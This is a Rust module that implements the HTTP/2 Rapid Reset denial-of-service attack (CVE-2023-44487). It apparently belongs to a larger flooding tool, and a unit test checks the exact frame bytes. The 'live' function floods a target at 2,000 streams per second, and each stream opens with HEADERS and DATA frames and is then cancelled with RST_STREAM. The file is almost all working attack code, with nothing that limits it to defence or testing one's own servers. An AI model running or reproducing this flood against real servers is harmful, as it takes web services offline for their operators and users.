//! HTTP/2 Rapid Reset (CVE-2023-44487): each stream is opened with a whole call and reset.

use super::frames::{self, CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
use super::talk::flood;
use super::wire::{Gone, Wire};

/// Streams a second.
const RATE: f64 = 2_000.0;

pub async fn live(wire: Wire) -> Gone {
    let block = frames::post(wire.ground.path, &wire.ground.host);
    let call = wire.ground.call(1);
    flood(wire, &[], RATE, move |number, out| write(number, &block, call.as_bytes(), out)).await
}

fn write(number: u64, block: &[u8], call: &[u8], out: &mut Vec<u8>) {
    // Past the last stream there is none: such a flood is over long before.
    let stream = u32::try_from(number * 2 + 1).unwrap_or(u32::MAX) & 0x7fff_ffff;
    frames::write(out, HEADERS, END_HEADERS, stream, block);
    frames::write(out, DATA, END_STREAM, stream, call);
    frames::write(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_stream_is_opened_with_a_call_and_reset() {
        let mut out = Vec::new();
        super::write(2, b"\x83", b"{}", &mut out);
        let expected = b"\x00\x00\x01\x01\x04\x00\x00\x00\x05\x83\
            \x00\x00\x02\x00\x01\x00\x00\x00\x05{}\
            \x00\x00\x04\x03\x00\x00\x00\x00\x05\x00\x00\x00\x08";
        assert_eq!(out, expected);
    }
}
